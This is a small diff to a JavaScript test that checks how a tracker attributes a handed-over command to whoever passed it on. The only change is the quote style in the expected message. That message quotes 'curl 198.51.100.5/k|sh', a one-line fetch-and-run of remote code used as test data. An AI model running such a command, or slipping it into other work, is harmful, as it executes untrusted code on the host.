@@ -45,7 +45,7 @@ test("who hands a command over is the cause of who runs it, however it was quote
   for (const line of lines) {
     assert.deepEqual(
       linksOf(carried(line), ran("b", 60)),
-      ['a-b: it handed over the command "curl 198.51.100.5/k|sh", which the other ran'],
+      ["a-b: it handed over the command “curl 198.51.100.5/k|sh”, which the other ran"],
       line,
     );
   }
